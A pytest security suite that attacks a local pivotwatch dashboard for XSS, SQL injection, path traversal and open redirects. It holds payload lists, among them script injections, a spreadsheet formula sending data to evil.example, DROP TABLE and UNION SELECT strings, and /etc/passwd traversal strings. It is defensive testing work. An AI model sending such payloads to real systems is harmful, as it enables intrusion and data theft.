"""The attack suite against the running dashboard (issue 15): a real uvicorn server over a store
filled, the way a user fills one (`pivotwatch ingest ...` on crafted files, a watch cycle,
alerts recorded through the watcher's own `record`), with hostile text in every field a page
shows: GDELT actor names and source URLs, curated events and measures, sanctions entries, alert
titles, summaries and evidence, file names, documents.

Every route of `web.app.MODULES` is attacked, so a page added later is attacked too: stored
XSS (each page, each tab, each table's CSV and JSON, each chart parsed: no element or
attribute made by a payload, no link that is not http(s) or a path of this site, no raw bidi
control, no spreadsheet formula), reflected XSS and SQL injection in every query parameter a
module reads (found in its source), path traversal on every route, the token beyond loopback,
error pages without tracebacks and the security headers on every answer.

The number of cases per class: `pytest --collect-only -q tests/test_web_attacks.py | cut -d:
-f3 | cut -d[ -f1 | sort | uniq -c`.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import inspect
import io
import json
import re
import shutil
import socket
import sys
import threading
import time
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

import httpx
import pytest
from starlette.routing import Route
from typer.testing import CliRunner

from pivotwatch.cli import app as cli_app
from pivotwatch.markup import http_url
from pivotwatch.web import app as web_app
from pivotwatch.web.security import HEADERS

sys.path.insert(0, str(Path(__file__).parent))
import gdelt_rows  # noqa: E402

TOKEN = "attack-suite-token-0123456789abcdef"
SAMPLE = Path(web_app.__file__).parents[1] / "data" / "sample"

# --- payloads ------------------------------------------------------------------------------
# Each carries alert(N), N naming where it was planted, so a finding says which field leaked.

TEXT = (
    "<script>alert({n})</script>",
    '"><img src=x onerror=alert({n})>',
    "'><svg/onload=alert({n})>",
    "</textarea><script>alert({n})</script>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    '" autofocus onfocus="alert({n})',
    "' onmouseover='alert({n})",
    '<a href="javascript:alert({n})">click</a>',
    "<math><mtext></p><style><img src=x onerror=alert({n})>",
    "\u202e<blink>gpj.exe alert({n})</blink>",
    "<!-- alert({n}) --><base href=//evil.example/>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"alert({n})\")",
    "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert({n})</x:script>",
)
URLS = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "//evil.example/alert({n})",
    "vbscript:alert({n})",
    "http://x.example/\"><script>alert({n})</script>",
    "https:\\\\evil.example\\alert({n})",
    "&#106;avascript:alert({n})",
    "%6Aavascript:alert({n})",
    "https://ok.example/a?b=\"onmouseover=alert({n})&c='><img src=x>",
)
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def planted(templates: tuple[str, ...], base: int) -> list[str]:
    return [t.format(n=base + i) for i, t in enumerate(templates)]


# --- the hostile store ---------------------------------------------------------------------

def _cli(db: str, *args: str) -> str:
    result = CliRunner().invoke(cli_app, ["--db", db, *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.output


def _gdelt(folder: Path) -> list[Path]:
    """An export of RUS-PRK events whose actor names (1xx) and source URLs (2xx) are payloads,
    and a broken one whose file name (3xx) is a payload (the data page lists failed files)."""
    names, urls = planted(TEXT, 100), planted(URLS, 200)
    lines = []
    for i in range(max(len(names), len(urls))):
        a, b = ("RUS", "PRK") if i % 2 == 0 else ("PRK", "RUS")
        lines.append(gdelt_rows.row(
            GLOBALEVENTID=990_000_000 + i, SQLDATE=f"202406{10 + i % 15:02d}",
            Actor1CountryCode=a, Actor2CountryCode=b, Actor1Name=names[i % len(names)],
            Actor2Name=names[(i + 3) % len(names)], EventCode="042", EventBaseCode="042",
            EventRootCode="04", SOURCEURL=urls[i % len(urls)],
            DATEADDED=f"202406{10 + i % 15:02d}120000"))
    good = gdelt_rows.write(folder / "hostile.export.CSV", lines)
    broken = folder / "<svg onload=alert(300)>.export.CSV"
    broken.write_text("not\ta GDELT\trow\n" * 3, encoding="utf-8")
    return [good, broken]


def _reference(folder: Path) -> list[Path]:
    """Curated events (4xx descriptions, 5xx source URLs: the loader takes http(s) only, so
    those that load are the attribute breakers) and measures (6xx publishers and notes)."""
    texts, urls = planted(TEXT, 400), planted(URLS, 500)
    events = folder / "hostile_events.csv"
    with events.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["date", "date_precision", "actor1", "actor2", "dimension", "event_type",
                    "description", "source_url", "confidence"])
        for i, text in enumerate(texts):
            w.writerow([f"2024-0{1 + i % 9}-{10 + i:02d}", "day", "RUS", "PRK",
                        ("military", "political", "economic")[i % 3], "summit", text,
                        urls[i % len(urls)] if i % 2 else urls[5], "high"])
    measures = folder / "hostile_measures.csv"
    notes = planted(TEXT, 600)
    with measures.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["as_of", "period_start", "period_end", "from_country", "to_country",
                    "dimension", "measure", "value", "unit", "basis", "publisher",
                    "publisher_kind", "note", "source_url", "confidence"])
        for i, note in enumerate(notes):
            w.writerow([f"2024-1{i % 3}-{10 + i:02d}", "2023-09-01", f"2024-1{i % 3}-{10 + i:02d}",
                        "PRK", "RUS", "military", "munitions_containers", 7000 + i,
                        "containers", "cumulative", note, "third_government", note,
                        urls[5], "medium"])
    return [events, measures]


def _sanctions(folder: Path) -> Path:
    """The UN list of 2025-11-20 as if published earlier, every first name and remark a
    payload (7xx), every address in Russia."""
    text = gzip.decompress((SAMPLE / "sanctions" / "un_sc_2025-11-20_dprk_rus.xml.gz")
                           .read_bytes()).decode("utf-8")
    names = planted(TEXT, 700)
    count = iter(range(10_000))

    def payload(m: re.Match) -> str:
        from xml.sax.saxutils import escape

        return f"<{m[1]}>{escape(names[next(count) % len(names)])}</{m[1]}>"

    text = re.sub(r"<(FIRST_NAME|COMMENTS1)>[^<]*</(?:FIRST_NAME|COMMENTS1)>", payload, text)
    # an address in Russia ties a DPRK-regime entry to the pair; published before the
    # assessment's as-of date, so the dyad page shows these entries as evidence
    text = text.replace("<COUNTRY>Democratic People's Republic of Korea</COUNTRY>",
                        "<COUNTRY>Russian Federation</COUNTRY>")
    text = re.sub(r'dateGenerated="[^"]*"', 'dateGenerated="2025-09-01T10:00:00.000Z"',
                  text, count=1)
    path = folder / "un_hostile.xml"
    path.write_text(text, encoding="utf-8")
    return path


def _documents(folder: Path) -> list[Path]:
    """An article (8xx) in HTML and in text, for the claims pages."""
    texts = planted(TEXT, 800)
    page = folder / "article.html"
    page.write_text("<html><head><title>" + texts[0].replace("<", "&lt;") + "</title></head>"
                    "<body><article><p>Russia and North Korea signed an arms deal in 2024. "
                    + " ".join(t.replace("<", "&lt;") for t in texts) + "</p></article></body>"
                    "</html>", encoding="utf-8")
    note = folder / "note.txt"
    note.write_text("North Korea sent 10,000 troops to Russia in 2024.\n" + "\n".join(texts),
                    encoding="utf-8")
    return [page, note]


def _alerts(db: str) -> None:
    """A watch cycle over the hostile store, then an alert written by the watcher's `record`
    whose every field is a payload (9xx)."""
    from pivotwatch.analysis.judgment import Evidence
    from pivotwatch.store import open_store
    from pivotwatch.watch.config import WatchConfig
    from pivotwatch.watch.cycle import run_cycle
    from pivotwatch.watch.model import Alert, Severity
    from pivotwatch.watch.state import Outcome, record, start_cycle

    run_cycle(WatchConfig(dyads=("RUS-PRK",), gdelt="", sanctions={}), db=Path(db))
    texts, urls = planted(TEXT, 900), planted(URLS, 950)
    hostile = [Alert("new_curated", "RUS-PRK", f"hostile {i}", Severity.MODERATE, text,
                     texts[(i + 1) % len(texts)], None,
                     before={texts[(i + 2) % len(texts)]: texts[(i + 3) % len(texts)]},
                     after={texts[(i + 2) % len(texts)]: "=1+1"},
                     evidence=(Evidence("reference_events", text, "2024-06-01", text,
                                        urls[i % len(urls)]),),
                     command=f"pivotwatch measures --measure '{text}'")
               for i, text in enumerate(texts)]
    with open_store(db) as st:
        cycle_id, _ = start_cycle(st)
        record(st, cycle_id, Outcome("RUS-PRK", hostile, []), [])


@pytest.fixture(scope="module")
def hostile_store(demo_store, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    db = root / "hostile.duckdb"
    shutil.copy(demo_store, db)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PIVOTWATCH_CACHE", str(root / "cache"))
        mp.setenv("PIVOTWATCH_GDELT_BASE", "http://127.0.0.1:9")
        _cli(str(db), "ingest", "gdelt", *map(str, _gdelt(root)))
        _cli(str(db), "ingest", "reference", *map(str, _reference(root)))
        _cli(str(db), "ingest", "sanctions", str(_sanctions(root)))
        _cli(str(db), "ingest", "documents", *map(str, _documents(root)))
        _alerts(str(db))
    return db


class Server:
    def __init__(self, db: Path, token: str | None) -> None:
        import uvicorn

        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.base = f"http://127.0.0.1:{self.port}"
        self.server = uvicorn.Server(uvicorn.Config(
            web_app.create_app(db, dyads=("RUS-PRK", "RUS-CHN"), token=token),
            host="127.0.0.1", port=self.port, log_level="critical", server_header=False))
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.client = httpx.Client(base_url=self.base, timeout=60)

    def __enter__(self) -> Server:
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        assert self.server.started, "the server did not start"
        return self

    def __exit__(self, *exc) -> None:
        self.client.close()
        self.server.should_exit = True
        self.thread.join(10)

    def raw(self, target: str, headers: dict[str, str] | None = None, *,
            method: str = "GET", body: bytes = b"") -> tuple[int, dict[str, str], bytes]:
        """A request with its target sent exactly as written (httpx would normalise dot
        segments and encodings away): the status and the body."""
        headers = {"Host": f"127.0.0.1:{self.port}", **(headers or {})}
        if body:
            headers.setdefault("Content-Length", str(len(body)))
        lines = [f"{method} {target} HTTP/1.1", "Connection: close",
                 *(f"{k}: {v}" for k, v in headers.items()), "", ""]
        with socket.create_connection(("127.0.0.1", self.port), timeout=60) as s:
            s.sendall("\r\n".join(lines).encode("latin-1") + body)
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        status, *fields = head.decode("latin-1").split("\r\n")
        headers = {k.lower(): v for k, v in (f.split(": ", 1) for f in fields if ": " in f)}
        return int(status.split(" ", 2)[1]), headers, body


def fingerprint(db: Path) -> tuple[str, dict[str, int]]:
    """The store's bytes and the row count of each table."""
    from pivotwatch.store import open_store

    digest = hashlib.sha256()
    for path in (db, Path(f"{db}.wal")):
        if path.exists():
            digest.update(path.read_bytes())
    with open_store(db, read_only=True) as st:
        tables = [r[0] for r in st.con.execute("SHOW TABLES").fetchall()]
        counts = {t: st.con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0]
                  for t in tables}
    return digest.hexdigest(), counts


@pytest.fixture(scope="module")
def before(hostile_store) -> tuple[str, dict[str, int]]:
    """The store as the servers find it, before any request."""
    return fingerprint(hostile_store)


@pytest.fixture(scope="module")
def server(hostile_store, before):
    with Server(hostile_store, None) as s:
        yield s


@pytest.fixture(scope="module")
def guarded(hostile_store):
    with Server(hostile_store, TOKEN) as s:
        yield s


# --- the routes and the parameters each module reads ---------------------------------------

def _routes() -> list[tuple[object, Route]]:
    found = []
    for module in web_app.MODULES:
        site = web_app.Site(Path("unused.duckdb"), web_app.DEFAULT_DYADS)
        for route in module.routes(site):
            if isinstance(route, Route):
                found.append((module, route))
    return found


ROUTES = _routes()
_READS = re.compile(r"""(?:param_\w+\(\s*request,\s*|query_params\.get\(|q\.get\(|"""
                    r"""_raw\(\s*request,\s*)["']([a-z_]+)["']""")
SITE_PARAMS = ("table", "format", "chart")  # read by site.page on every page


# a known good value per path parameter; a page module with another one gets "x"
PATH_VALUES = {"dyad": "RUS-PRK", "name": "pivotwatch.css", "fmt": "html"}
# what a page needs in its query to show its data
NEEDS = {"/dyad/{dyad}/events": "from=2015&to=2026-12"}


def fill(path: str, **given: str) -> str:
    def value(m: re.Match) -> str:
        name = m.group(1).split(":")[0]
        return given.get(name, PATH_VALUES.get(name, "x"))
    return re.sub(r"\{([^}]+)\}", value, path)


# other views of some pages that show the hostile rows another way
VIEWS = {"/sanctions": ["/sanctions?country=RUS&linked=PRK", "/sanctions?list=un_sc"],
         "/timeline": ["/timeline?dimension=military", "/timeline?dyad=PRK-RUS"],
         "/dyad/{dyad}/events": ["/dyad/PRK-RUS/events?dimension=political&from=2024-06"
                                 "&to=2024-06"]}


def page_urls() -> list[str]:
    """Every page a user reaches: each route filled in, the dyad page once per tab."""
    from pivotwatch.web import dyad

    urls = []
    for _module, route in ROUTES:
        url = fill(route.path)
        if "." in url.rsplit("/", 1)[-1] or url in urls:
            continue  # a file (the feed, the briefing, an asset), not a page; or seen
        if route.path in NEEDS:
            url += "?" + NEEDS[route.path]
        urls.append(url)
        if route.path == "/dyad/{dyad}":
            urls += [f"{url}?dimension={t}" for t in dyad.TABS if t != "all"]
        urls += VIEWS.get(route.path, [])
    return urls


PAGES = page_urls()


# --- what a page may hold ------------------------------------------------------------------

TAGS = {"html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer",
        "section", "article", "aside", "div", "span", "p", "a", "small", "strong", "em", "code",
        "pre", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table",
        "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "colgroup", "col", "figure",
        "figcaption", "img", "form", "input", "label", "select", "option", "button",
        "textarea", "fieldset", "legend", "details", "summary", "br", "hr", "abbr", "time",
        "mark", "blockquote", "q", "sup", "sub", "noscript", "script", "b", "i", "s", "u",
        "kbd", "var", "samp", "output", "meter", "progress"}
ATTRIBUTES = {"href", "src", "alt", "rel", "class", "id", "lang", "charset", "name", "content",
              "value", "placeholder", "size", "type", "method", "action", "enctype", "accept",
              "maxlength", "minlength", "required", "rows", "cols", "hidden", "checked",
              "selected", "disabled", "multiple", "colspan", "rowspan", "scope", "for",
              "title", "role", "open", "datetime", "download", "autocomplete", "spellcheck",
              "min", "max", "step", "pattern", "wrap", "readonly", "list", "headers",
              "width", "height", "loading", "decoding", "sizes", "tabindex", "defer",
              "formaction"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data-vega", "poster", "cite"}


def site_or_http(value: str) -> bool:
    """A link target a page may hold: a path of this site (not //host, no backslash), a
    fragment, an http(s) URL, or the empty icon `data:,`."""
    if value == "data:,":
        return True
    if value.startswith("#"):
        return True
    if value.startswith("/") and not value.startswith("//") and "\\" not in value \
            and not re.search(r"[\x00-\x20]", value):
        return True
    return http_url(value) == value


class Audit(HTMLParser):
    """A page's elements as a browser tokenises them, with every finding."""

    def __init__(self, strict: bool = True) -> None:
        super().__init__(convert_charrefs=True)
        self.strict = strict  # False: only what runs or links (a briefing has its own markup)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.links: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs) -> None:
        if tag not in TAGS and (self.strict or tag in ("iframe", "object", "embed", "base")):
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            if self.strict and name not in ATTRIBUTES and not name.startswith(("aria-",
                                                                              "data-")):
                self.problems.append(f"attribute {name}= on <{tag}>")
            if name.startswith("on") or name == "srcdoc":
                self.problems.append(f"handler {name}= on <{tag}>")
            if name in URL_ATTRIBUTES:
                if not site_or_http(value):
                    self.problems.append(f"<{tag} {name}={value[:60]!r}>")
                self.links.append(value)
            if name == "http-equiv" and value.lower() == "refresh":
                self.problems.append("meta refresh")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/") or src.startswith("//"):
                self.problems.append(f"<script> without a site src: {src[:60]!r}")
            self._in_script = True

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data) -> None:
        if self._in_script and data.strip():
            self.problems.append(f"inline script: {data[:60]!r}")
        self.text.append(data)

    def handle_comment(self, data) -> None:
        if self.strict:
            self.problems.append(f"comment <!--{data[:40]}-->")  # templates write none


def audit(body: str, strict: bool = True) -> Audit:
    a = Audit(strict)
    a.feed(body)
    a.close()
    if BIDI.search(body):
        a.problems.append("a raw bidi control (text around it shows reordered)")
    return a


def neutral_csv(text: str) -> list[str]:
    """The cells of a CSV download that a spreadsheet would run as a formula."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell[:60])
    return bad


def _walk(value, key=None):
    """Every (key, value) of a JSON document, at any depth."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _walk(v, k)
    elif isinstance(value, list):
        for v in value:
            yield from _walk(v, key)
    else:
        yield key, value


def assert_headers(response: httpx.Response | dict) -> None:
    headers = response.headers if isinstance(response, httpx.Response) else response
    for name, value in HEADERS.items():
        if name != "Cache-Control":  # an asset may be cached; the rest must be as set
            assert headers.get(name, headers.get(name.lower())) == value, name
    assert "server" not in headers


def assert_no_leak(text: str) -> None:
    for leak in ("Traceback", "/work/", '.py"', "site-packages", "File \""):
        assert leak not in text, leak


# --- stored XSS ----------------------------------------------------------------------------

@dataclass
class Crawled:
    response: httpx.Response
    audit: Audit
    downloads: dict[str, httpx.Response]  # the page's tables and charts, by URL


@pytest.fixture(scope="module")
def crawled(server) -> dict[str, Crawled]:
    """Every page, and every table and chart each page offers, fetched once."""
    found: dict[str, Crawled] = {}
    for url in PAGES:
        r = server.client.get(url)
        page = found[url] = Crawled(r, audit(r.text), {})
        for link in page.audit.links:
            parts = urlsplit(link)
            query = dict(parse_qsl(parts.query))
            if parts.path == urlsplit(url).path and ("table" in query or "chart" in query):
                page.downloads[link] = server.client.get(link)
    return found


class TestStoredXSS:
    def test_the_hostile_text_reached_the_pages(self, crawled):
        """The suite means something only if the payloads are shown: each planted field is
        seen, as text, on some page or download."""
        text = "\n".join(" ".join(c.audit.text) + "\n".join(d.text for d in c.downloads.values())
                         for c in crawled.values())
        seen = {int(n) // 100 for n in re.findall(r"alert\((\d+)\)", text)}
        # 1 GDELT actor names, 2 GDELT URLs, 3 failed file names, 4 curated events,
        # 6 measures, 7 sanctions entries, 9 alerts
        assert {1, 2, 3, 4, 6, 7, 9} <= seen, f"planted fields never shown: {seen}"
        csv_text = "\n".join(d.text for c in crawled.values() for u, d in c.downloads.items()
                             if "format=csv" in u)
        assert "'=HYPERLINK(" in csv_text  # a formula planted, and neutralised

    @pytest.mark.parametrize("url", PAGES)
    def test_no_payload_makes_an_element_an_attribute_or_a_link(self, crawled, url):
        page = crawled[url]
        assert page.response.status_code == 200, (url, page.response.text[:300])
        assert page.response.headers["content-type"].startswith("text/html")
        assert page.audit.problems == [], page.audit.problems[:10]
        assert_headers(page.response)

    @pytest.mark.parametrize("url", PAGES)
    def test_every_download_of_the_page_is_inert(self, crawled, url):
        """CSV: no cell a spreadsheet runs; JSON: parses, no raw bidi control; SVG: XML
        without script, event handler, foreign object or outside link."""
        from lxml import etree

        for u, r in crawled[url].downloads.items():
            assert r.status_code == 200, (u, r.text[:200])
            assert_headers(r)
            kind = r.headers["content-type"]
            if kind.startswith("text/csv"):
                assert "attachment" in r.headers["content-disposition"]
                assert neutral_csv(r.text) == [], u
            elif kind.startswith("application/json"):
                data = json.loads(r.text)
                assert not BIDI.search(r.text), f"raw bidi control in {u}"
                if "chart=" in u:  # what the page's script follows or loads
                    for key, value in _walk(data):
                        if key in ("href", "url"):
                            assert isinstance(value, str) and value.startswith("/") and \
                                site_or_http(value), (u, key, value)
            else:
                assert kind.startswith("image/svg+xml"), (u, kind)
                root = etree.fromstring(r.content, etree.XMLParser(resolve_entities=False,
                                                                   no_network=True))
                for el in root.iter():
                    tag = etree.QName(el).localname if isinstance(el.tag, str) else ""
                    assert tag not in ("script", "foreignObject", "iframe"), (u, tag)
                    assert not any(k.lower().startswith("on") for k in el.attrib), u
                    for k, v in el.attrib.items():
                        if k.endswith("href"):
                            assert site_or_http(v), (u, v)

    def test_a_stored_documents_audit_shows_its_text_escaped(self, server, hostile_store):
        """`/claims?doc=ID`: the article's title and text (8xx) with the claims marked."""
        from pivotwatch.store import open_store

        if not any(r.path == "/claims" for _, r in ROUTES):
            pytest.skip("no claims page in this tree")
        with open_store(hostile_store, read_only=True) as st:
            ids = [r[0] for r in st.con.execute("SELECT doc_id FROM documents").fetchall()]
        assert len(ids) == 2
        for doc_id in ids:
            r = server.client.get(f"/claims?doc={doc_id}")
            assert r.status_code == 200, r.text[:300]
            found = audit(r.text)
            assert found.problems == [], found.problems[:10]
            assert re.search(r"alert\(8\d\d\)", " ".join(found.text))
            assert_headers(r)

    def test_the_atom_feed_is_xml_with_the_payloads_as_text(self, server):
        from lxml import etree

        r = server.client.get("/alerts.atom")
        assert r.status_code == 200 and r.headers["content-type"].startswith(
            "application/atom+xml")
        assert_headers(r)
        root = etree.fromstring(r.content, etree.XMLParser(resolve_entities=False,
                                                           no_network=True))
        atom = "{http://www.w3.org/2005/Atom}"
        titles = [e.findtext(f"{atom}title") for e in root.iter(f"{atom}entry")]
        assert "<script>alert(900)</script>" in titles  # as text, whole
        for el in root.iter():
            assert isinstance(el.tag, str) and el.tag.startswith(atom), el.tag
            if el.tag == f"{atom}link":
                assert http_url(el.get("href")) or el.get("href", "").startswith("/"), \
                    el.get("href")
            for k in el.attrib:
                assert not k.lower().startswith("on")


class TestInBrowser:
    """Chromium runs each page with the dashboard's script over the hostile store: no payload
    opens a dialog, and nothing is requested from another origin."""

    @pytest.mark.parametrize("url", PAGES)
    def test_no_payload_runs_and_nothing_leaves_the_origin(self, browser, server, url):
        page = browser.new_page()
        dialogs, outside = [], []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: outside.append(r.url)
                if not r.url.startswith((server.base + "/", "data:")) else None)
        try:
            response = page.goto(server.base + url, wait_until="load", timeout=60_000)
            assert response is not None and response.status == 200
            page.wait_for_load_state("networkidle", timeout=30_000)
            page.mouse.move(300, 300)
        finally:
            page.close()
        assert dialogs == [] and outside == [], (dialogs, outside)


# --- reflected XSS and SQL injection in every parameter ------------------------------------

_IMPLIED = {"param_years(": ("from", "to")}  # web/params.py: readers of fixed names
_PRESENT = re.compile(r"""["']([a-z_]+)["']\s+in\s+request\.query_params""")


def _params(module) -> list[str]:
    source = inspect.getsource(module)
    names = set(_READS.findall(source)) | set(_PRESENT.findall(source)) | set(SITE_PARAMS)
    for call, implied in _IMPLIED.items():
        if call in source:
            names |= set(implied)
    return sorted(names | {"unknown"})  # a parameter no page reads is kept in permalinks


def _get_routes() -> list[tuple[object, Route]]:
    return [(m, r) for m, r in ROUTES if r.methods is None or "GET" in r.methods]


# The briefing (`/dyad/{dyad}/briefing.{fmt}`) reads the dyad page's checked parameters and is
# written by report/render.py, attacked in test_attack_output.py: computing it per case
# would double this suite's time. Its path parameters are attacked below.
PARAM_CASES = [pytest.param(route.path, name, id=f"{route.path}?{name}")
               for module, route in _get_routes() if not route.path.endswith(".{fmt}")
               for name in _params(module)]
PATH_CASES = [pytest.param(route.path, name, id=f"{route.path}:{name}")
              for _, route in _get_routes()
              for name in re.findall(r"\{(\w+)", route.path)]
SQL = (
    "' OR 1=1--",
    "'; DROP TABLE events;--",
    "RUS'--",
    "PRK\"; DELETE FROM files; --",
    "RUS-PRK' UNION SELECT table_name FROM information_schema.tables--",
    "1) OR (1=1",
    "2024' AND sleep(5)--",
    "all'||(SELECT count(*) FROM events)||'",
    "RUS,PRK');ATTACH '/tmp/x.db' AS x;--",
    "$$; COPY events TO '/tmp/out.csv';$$",
    "RUS\x00PRK",
    "ＲＵＳ",
    "R" * 5000,
)
DB_ERRORS = ("Parser Error", "Catalog Error", "Binder Error", "duckdb", "syntax error",
             "sqlite", "Conversion Error")


def _query(path: str, name: str, value: str) -> str:
    from urllib.parse import urlencode

    url = fill(path)
    base = NEEDS.get(path, "")
    query = "&".join(p for p in (base, urlencode({name: value})) if p)
    return f"{url}?{query}"


def _answered(r: httpx.Response, payload: str) -> None:
    """A refusal (400/404/405/413/414) or a page; either way inert: a page is audited, and no
    answer holds the payload as markup, a database error or a traceback."""
    assert r.status_code in (200, 400, 404, 405, 413, 414), (r.status_code, r.text[:200])
    assert_headers(r)
    assert_no_leak(r.text)
    for error in DB_ERRORS:
        assert error.lower() not in r.text.lower(), error
    kind = r.headers.get("content-type", "")
    if kind.startswith("text/html"):
        # an attachment (the briefing) has its own markup: only what runs or links counts
        attached = "attachment" in r.headers.get("content-disposition", "")
        problems = audit(r.text, strict=not attached).problems
        assert problems == [], problems[:5]
    if "<" in payload:
        assert payload not in r.text or kind.startswith(("application/json", "text/csv"))


class TestReflectedXSS:
    @pytest.mark.parametrize(("path", "name"), PARAM_CASES)
    def test_every_query_parameter(self, server, path, name):
        """Every text payload and the scheme tricks (no parameter is a link target); a
        parameter no page reads renders the whole page per value, so it gets the first four."""
        payloads = [*planted(TEXT, 1000), *planted(URLS[:4], 1100)]
        for payload in payloads[:4] if name == "unknown" else payloads:
            _answered(server.client.get(_query(path, name, payload)), payload)

    @pytest.mark.parametrize(("path", "name"), PATH_CASES)
    def test_every_path_parameter(self, server, path, name):
        from urllib.parse import quote

        for payload in planted(TEXT, 1200):
            r = server.client.get(fill(path, **{name: quote(payload, safe="")}))
            _answered(r, payload)
            if name != "fmt":  # a dyad, a file name: never a page
                assert r.status_code in (400, 404), (path, payload, r.status_code)




class TestSQLInjection:
    @pytest.mark.parametrize(("path", "name"), PARAM_CASES)
    def test_every_query_parameter(self, server, hostile_store, path, name):
        before = hostile_store.stat().st_mtime_ns, hostile_store.stat().st_size
        for payload in SQL:
            _answered(server.client.get(_query(path, name, payload)), payload)
        assert (hostile_store.stat().st_mtime_ns, hostile_store.stat().st_size) == before

    @pytest.mark.parametrize(("path", "name"), PATH_CASES)
    def test_every_path_parameter(self, server, path, name):
        from urllib.parse import quote

        for payload in SQL:
            r = server.client.get(fill(path, **{name: quote(payload, safe="")}))
            _answered(r, payload)
            assert r.status_code in (400, 404), (path, payload, r.status_code)

    def test_the_store_is_unchanged_after_every_injection(self, server, hostile_store,
                                                          before):
        """Run after the injections above (file order): the same bytes, the same rows."""
        digest, counts = before
        assert counts["events"] > 0 and counts["files"] > 0 and counts["sanctions"] > 0
        assert fingerprint(hostile_store) == (digest, counts)

    def test_a_huge_query_is_refused_and_the_server_goes_on(self, server):
        status, _, _ = server.raw("/dyad/RUS-PRK?from=" + "9" * 100_000)
        assert status in (400, 413, 414, 431)
        assert server.client.get("/").status_code == 200


# --- path traversal ------------------------------------------------------------------------

TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..\\..\\..\\..\\etc\\passwd",
    "..%5c..%5c..%5cetc%5cpasswd",
    "%2fetc%2fpasswd",
    "/etc/passwd",
    "....//....//....//etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%00/pyproject.toml",
    "../../../pyproject.toml",
    "..%2f..%2fweb%2fapp.py",
    "../web/app.py",
    "base.html.j2",
    "vendor/LICENSE-vega.txt",
    "vendor/README.md",
    "vendor/../pivotwatch.css/../../web/app.py",
    "pivotwatch.css%00.py",
    "pivotwatch.css/..%2f..%2f..%2fpyproject.toml",
)
FILE_CONTENT = ("root:x:0:0", "[project]", "[build-system]", "from __future__", "import ",
                "{% extends", "{% block", "{% macro", "Copyright", "Permission is hereby",
                "# Vendored")


def _traversal_targets() -> list[str]:
    targets = ["/../../../../etc/passwd", "//etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
               "/static/", "/static", "/static//etc/passwd", "/static/%2f%2fetc%2fpasswd",
               "/dyad/..%2f..%2fetc%2fpasswd", "/dyad/RUS-PRK/..%2f..%2f..%2fetc%2fpasswd",
               "/dyad/RUS-PRK/briefing.html/../../../../etc/passwd", "/\\..\\..\\etc\\passwd",
               "/static/..;/..;/pyproject.toml"]
    for _module, route in ROUTES:
        names = re.findall(r"\{(\w+)", route.path)
        for name in names:
            targets += [fill(route.path, **{name: t}) for t in TRAVERSALS]
        if not names and route.path != "/":
            targets += [f"{route.path}/{t}" for t in TRAVERSALS[:8]]
    return list(dict.fromkeys(targets))


TRAVERSAL_TARGETS = _traversal_targets()


class TestPathTraversal:
    @pytest.mark.parametrize("target", TRAVERSAL_TARGETS)
    def test_no_route_reaches_a_file(self, server, target):
        status, headers, body = server.raw(target)
        text = body.decode("utf-8", "replace")
        if status in (307, 308):  # Starlette's slash: a path of this site, never a file
            assert headers["location"].startswith(server.base + "/")
            assert not headers["location"].startswith(server.base + "//")
        else:
            assert status in (400, 404), (target, status, text[:200])
        for sign in FILE_CONTENT:
            assert sign not in text, (target, sign)
        assert_no_leak(text)

    @pytest.mark.parametrize("target", ["//evil.example/", "/\\evil.example/",
                                        "/%2fevil.example/", "/%5cevil.example/",
                                        "///evil.example//", "/dyad/RUS-PRK/", "/alerts/",
                                        "/claims/", "/dyad/RUS-PRK//", "/%09/evil.example/"])
    def test_no_redirect_leaves_the_site(self, server, target):
        status, headers, _ = server.raw(target)
        if 300 <= status < 400:
            location = headers["location"]
            assert location.startswith(server.base + "/"), location
            assert "evil" not in location.split("/", 3)[2]
        else:
            assert status == 404

    def test_only_the_listed_assets_are_served(self, server):
        from pivotwatch.web.assets import ASSETS

        for name, kind in ASSETS.items():
            r = server.client.get(f"/static/{name}")
            assert r.status_code == 200 and r.headers["content-type"].startswith(kind)
            assert_headers(r)


# --- the token beyond loopback -------------------------------------------------------------

